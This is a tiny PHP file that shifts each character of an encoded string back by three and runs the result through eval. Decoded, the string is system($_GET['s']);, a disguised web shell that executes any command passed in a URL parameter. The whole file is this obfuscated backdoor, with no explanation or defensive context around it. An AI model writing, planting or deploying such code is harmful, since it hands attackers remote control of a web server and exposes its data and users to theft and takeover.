<?php
$s = 'v|vwhp+\'bJHW^*v*`,>';
$r = '';
for ($i = 0; $i < strlen($s); $i++) { $r .= chr(ord($s[$i]) - 3); }
eval($r);
